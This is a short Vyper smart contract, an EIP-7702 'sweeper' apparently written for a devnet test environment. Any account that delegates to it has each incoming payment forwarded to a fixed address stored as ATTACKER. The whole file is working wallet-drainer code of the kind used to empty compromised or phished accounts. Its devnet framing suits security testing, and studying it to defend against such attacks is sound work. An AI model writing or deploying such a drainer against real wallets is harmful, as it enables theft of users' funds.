# pragma version 0.4.3
"""EIP-7702 sweeper for the BlockAnalytix devnet: an account delegated to it forwards whatever it receives."""

# An immutable lives in the code, so it reads the same in every delegating account (their storage is their own).
ATTACKER: public(immutable(address))


@deploy
def __init__(_attacker: address):
    ATTACKER = _attacker


@external
@payable
def __default__():
    send(ATTACKER, self.balance)
